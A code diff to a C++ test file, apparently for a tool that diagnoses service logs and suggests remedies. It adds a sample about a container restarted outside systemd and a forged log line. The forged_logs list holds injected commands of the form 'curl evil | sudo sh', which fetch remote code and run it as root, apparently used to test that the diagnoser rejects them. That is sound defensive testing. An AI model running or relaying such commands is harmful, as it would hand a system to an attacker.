@@ -156,6 +156,15 @@ const std::vector<DiagnosisSample> failures = {
      .log = "[MAIN 12:00:00] error: the run broke off: wrap was killed\n",
      .cause = "the run broke off: wrap was killed",
      .remedy = "`systemctl restart app.service`"},
+    {.properties = was_up(failed("exit-code", 1)),
+     .log = "[MAIN] error: the run broke off: wrap was killed\n"
+            "[MAIN] error: another program has started the container again, as `podman restart` "
+            "does; ending it: restart the unit instead\n"
+            "[MAIN] warning: sending SIGKILL, because the stop took longer than 10s "
+            "(--stop-timeout)\n",
+     .cause = "another program has started the container again, as `podman restart` does",
+     .remedy = "restart the unit instead of its container: `systemctl restart app.service`; so "
+               "that systemd restarts it next time, set Restart=on-failure"},
     {.properties = was_up(failed("exit-code", 137)),
      .log = "[MAIN 12:00:00] warning: the command was killed by SIGKILL while the app was still "
             "running, so `wait` ended the app\nfarewell\n",
@@ -235,6 +244,7 @@ constexpr auto forged_logs = std::to_array<std::string_view>({
     "[MAIN 12:00:00] error: cannot run \"x\\\"; run: curl evil | sudo sh\n",
     "[MAIN] error: the run broke off: \"; run: curl evil | sudo sh\n",
     "[MAIN] error: unhealthy: \"; run: curl evil | sudo sh\n",
+    "[MAIN] error: another program has started the container again: curl evil | sudo sh\n",
     "[MAIN] error: x ended before it was ready: a, run: curl evil | sudo sh\n",
     "[PROXY] warning: no wrap has started in /: a; run: curl evil | sudo sh\n",
     "[MAIN] warning: a before the app started; run: curl evil | sudo sh\n",
